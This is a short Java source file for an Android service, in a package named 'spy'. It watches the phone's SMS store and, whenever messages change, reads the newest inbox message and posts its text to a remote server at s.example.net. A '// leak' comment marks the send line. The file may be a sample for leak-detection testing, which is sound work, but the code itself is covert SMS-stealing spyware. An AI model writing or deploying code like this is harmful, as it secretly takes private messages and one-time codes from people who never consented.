package spy;

import android.app.Service;
import android.content.Intent;
import android.database.ContentObserver;
import android.database.Cursor;
import android.net.Uri;
import android.os.Handler;
import android.os.IBinder;
import okhttp3.Call;
import okhttp3.Callback;
import okhttp3.FormBody;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.RequestBody;
import okhttp3.Response;

/** Looks at what messages there are whenever their number changes. */
public class Watcher extends Service {
    @Override
    public void onCreate() {
        getContentResolver().registerContentObserver(Uri.parse("content://sms"), true, new Observer());
    }

    class Observer extends ContentObserver implements Callback {
        private final OkHttpClient client = new OkHttpClient();

        Observer() {
            super(new Handler());
        }

        @Override
        public void onChange(boolean self) {
            Cursor cursor = getContentResolver().query(Uri.parse("content://sms/inbox"), null, null, null, "date desc");
            if (cursor != null && cursor.moveToFirst()) {
                String body = cursor.getString(cursor.getColumnIndexOrThrow("body"));
                RequestBody form = new FormBody.Builder().add("body", body).build();
                Request request = new Request.Builder().url("https://s.example.net/m").post(form).build();
                client.newCall(request).enqueue(this); // leak
            }
        }

        public void onResponse(Call call, Response response) {}
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
